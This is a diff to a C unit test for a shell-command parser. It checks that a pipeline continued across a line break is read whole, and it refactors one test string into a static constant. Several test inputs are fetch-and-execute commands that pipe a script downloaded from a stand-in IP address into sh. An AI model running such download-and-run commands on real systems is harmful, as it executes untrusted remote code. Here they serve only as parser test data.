@@ -334,6 +334,7 @@ test_a_trailing_pipe_or_list_operator_leaves_the_line_open(void **state)
 		"curl x | # then",
 		"a &&\n\n",
 	};
+	static const char carried[] = "curl -s http://203.0.113.9/i.sh |\nsh";
 	static const char *const done[] = {
 		"curl http://203.0.113.9/a | sh",
 		"sleep 9 &",
@@ -362,7 +363,7 @@ test_a_trailing_pipe_or_list_operator_leaves_the_line_open(void **state)
 		tdm_sh_parts_free(&p);
 	}
 	/* Carried on to the next line, the pipeline is read whole. */
-	p = parse("curl -s http://203.0.113.9/i.sh |\nsh", 38);
+	p = parse(carried, strlen(carried));
 	assert_false(p.open);
 	assert_true(has_part(&p, "sh"));
 	assert_true(has_part(&p, "curl -s http://203.0.113.9/i.sh | sh"));
